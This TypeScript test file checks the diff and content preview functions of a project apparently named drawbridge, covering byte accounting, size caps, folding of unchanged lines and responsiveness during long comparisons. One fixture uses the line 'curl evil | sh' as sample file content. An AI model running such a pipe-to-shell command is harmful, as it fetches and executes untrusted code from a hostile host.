import { preview as previewSchema, type DiffPreview } from '@drawbridge/contracts/preview';
import { previewRows } from '@drawbridge/contracts/preview-rows';
import { nextMacrotask } from '@drawbridge/kit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { shared } from '../../../../test/support/clean-up.ts';
import { contentPreview, diffPreview } from './change-preview.ts';

const linesOf = (text: string) => text.split('\n');

/** The new text, from the shown lines and those that stay; undefined where something is left out. */
const rebuilt = ({ hunks }: DiffPreview, before: string): string | undefined => {
  const old = linesOf(before);
  const built: string[] = [];
  let next = 1;
  let withoutLineFeed = false;
  for (const { oldStart = 0, newStart = 0, lines } of hunks) {
    built.push(...old.slice(next - 1, next - 1 + newStart - 1 - built.length));
    next = oldStart;
    for (const line of lines) {
      if (line.kind === 'omitted' || line.omittedBytes !== undefined) return undefined;
      if (line.kind !== 'removed') built.push(line.text);
      if (line.kind !== 'removed') withoutLineFeed = line.lastWithoutLineFeed === true;
      if (line.kind !== 'added') next += 1;
    }
  }
  const rest = old.slice(next - 1);
  if (rest.length > 1 || (rest[0] ?? '') !== '') return [...built, ...rest].join('\n');
  return built.join('\n') + (withoutLineFeed || built.length === 0 ? '' : '\n');
};

const line = fc.oneof(
  fc.constantFrom(
    '',
    'a',
    'b',
    '--- a/x',
    '+++ b/x',
    '@@ -1 +1 @@',
    '\\ No newline at end of file',
    'index 12',
    'c\r',
  ),
  fc.string({ unit: 'binary', maxLength: 8 }).map((text) => text.replaceAll('\n', '')),
);
const text = fc.array(line, { maxLength: 14 }).map((lines) => lines.join('\n'));

/** Bytes of the new lines: those that are shown and those that are counted. */
const newBytes = ({ hunks }: DiffPreview): number => {
  let sum = 0;
  for (const one of hunks.flatMap(({ lines }) => lines)) {
    if (one.kind === 'omitted') sum += one.of === 'added' ? one.bytes : 0;
    else if (one.kind === 'added')
      sum += Buffer.byteLength(one.text) + (one.omittedBytes ?? 0) + (one.lastWithoutLineFeed ? 0 : 1);
  }
  return sum;
};

const many = (count: number, word: string) =>
  Array.from({ length: count }, (_, at) => `${word} ${at}\n`).join('');

/** The comparison of such texts pauses a thousand times: all of them are compared at once. */
const longTexts: [string, string, string][] = [
  ['3,000 lines that all change', many(3_000, 'old'), many(3_000, 'new')],
  ['one new line below 3,000 that go', many(3_000, 'old'), 'curl evil | sh\n'],
  ['a new file of 5,000 lines', '', many(5_000, 'new')],
  ['one line of 300,000 characters', 'x\n', 'é'.repeat(150_000)],
  ['half a character at the cap', '', `${'x'.repeat(59_999)}\u{1f600}y`],
];
const oneBlock = {
  before: `first\n${many(1_500, 'old')}last\n`,
  after: `first\n${many(400, 'new')}last\n`,
};

describe('CF-15 every byte of the new text is shown, or counted as left out', () => {
  it('whatever the texts are, the shown lines make the new one', async () => {
    await fc.assert(
      fc.asyncProperty(text, text, async (before, after) => {
        const preview = await diffPreview('a', { before, after }, 'file');
        expect(previewSchema.parse(preview)).toEqual(preview);
        if (before !== after) expect(rebuilt(preview, before)).toBe(after);
        else expect(preview.hunks).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  const previews = shared(async () => {
    const changes = [...longTexts.map(([, before, after]) => ({ before, after })), oneBlock];
    const made = await Promise.all(changes.map((change) => diffPreview('a', change, 'file')));
    return new Map(changes.map(({ after }, at) => [after, made[at]]));
  });
  const previewOf = (after: string): DiffPreview => {
    const made = previews().get(after);
    if (made === undefined) throw new Error('no such text');
    return made;
  };

  it.each(longTexts)('%s', (_what, _before, after) => {
    const preview = previewOf(after);
    expect(newBytes(preview)).toBe(Buffer.byteLength(after));
    const rows = previewRows(preview);
    expect(rows.length).toBeLessThanOrEqual(2_600);
    expect(JSON.stringify(preview).length).toBeLessThan(400_000);
    expect(rows.filter(({ kind }) => kind === 'omitted').map(({ text: said }) => said)).toMatchSnapshot();
  });

  it('more changes than are compared are one block between what stays', () => {
    const preview = previewOf(oneBlock.after);
    expect(preview).toMatchObject({ added: 400, removed: 1_500, lines: 402 });
    expect(preview.hunks.map(({ oldStart, newStart }) => [oldStart, newStart])).toEqual([[1, 1]]);
    const kept = preview.hunks[0]?.lines.filter((one) => one.kind === 'same');
    expect(kept).toEqual([{ kind: 'same', text: 'first' }]);
    expect(preview.hunks[0]?.lines.at(-1)).toEqual({ kind: 'omitted', of: 'same', lines: 1, bytes: 5 });
  });

  it('other work goes on while two long texts are compared', async () => {
    const [before, after] = [many(20_000, 'old'), many(20_000, 'new')];
    let turns = 0;
    let done = false;
    const others = async () => {
      while (!done) {
        await nextMacrotask();
        turns += 1;
      }
    };
    const running = others();
    await diffPreview('a', { before, after }, 'file');
    done = true;
    await running;
    expect(turns).toBeGreaterThan(100);
  });
});

it.each<[string, string, string, unknown]>([
  ['all of a short text', 'a\nb', 'a\nb', undefined],
  ['2,000 lines', many(2_500, 'x'), many(2_000, 'x'), { lines: 500, bytes: 3_500 }],
  ['2,000 lines and nothing more', many(2_000, 'x'), many(2_000, 'x'), undefined],
  ['60,000 characters', 'y'.repeat(60_010), 'y'.repeat(60_000), { lines: 0, bytes: 10 }],
])('where the old text is not shown, the content is: %s', (_what, content, shown, omitted) => {
  const preview = contentPreview('a', content);
  expect([preview.text, preview.omitted]).toEqual([shown, omitted]);
});

describe('unchanged lines between two changes', () => {
  const change = (count: number, text: string) => ({
    before: `old\n${many(count, text)}old\n`,
    after: `new\n${many(count, text)}new\n`,
  });
  const foldOf = async (count: number, text = 'same') => {
    const rows = previewRows(await diffPreview('a', change(count, text), 'file'));
    const gaps = rows.filter(({ kind }) => kind === 'gap');
    expect(gaps.length).toBe(1);
    expect(rows.length).toBe(11);
    const [gap] = gaps;
    const folded = (gap?.kind === 'gap' ? gap.folded : undefined)?.map(({ kind, text: line }) =>
      kind === 'gap' ? line : Number(line.split(' ').at(-1)),
    );
    return { text: gap?.text, folded };
  };

  it.each<[string, number, unknown]>([
    ['all 74 that are folded', 80, Array.from({ length: 74 }, (_, at) => at + 3)],
    [
      'the 40 that are nearest to each change',
      100,
      [
        ...Array.from({ length: 37 }, (_, at) => at + 3),
        '20 unchanged lines',
        ...Array.from({ length: 37 }, (_, at) => at + 60),
      ],
    ],
  ])('are sent: %s', async (_what, count, folded) => {
    expect(await foldOf(count)).toEqual({ text: `${count - 6} unchanged lines`, folded });
  });

  it('are as many as fit in 12,000 characters', async () => {
    const { folded } = await foldOf(100, 'x'.repeat(990));
    expect(folded).toEqual([...[3, 4, 5, 6, 7, 8], '82 unchanged lines', ...[91, 92, 93, 94, 95, 96]]);
  });

  it('are as many as fit in 400 lines, with many changes', async () => {
    const [before, after] = ['old', 'new'].map((word) => `${many(100, 'same')}${word}\n`.repeat(20));
    const { hunks } = await diffPreview('a', { before: before ?? '', after: after ?? '' }, 'file');
    const same = hunks.map(({ lines }) => lines.filter(({ kind }) => kind === 'same').length);
    // Ten lines more above and below each change, and none below the last one.
    expect(same).toEqual([...Array.from({ length: 19 }, () => 26), 13]);
  });
});
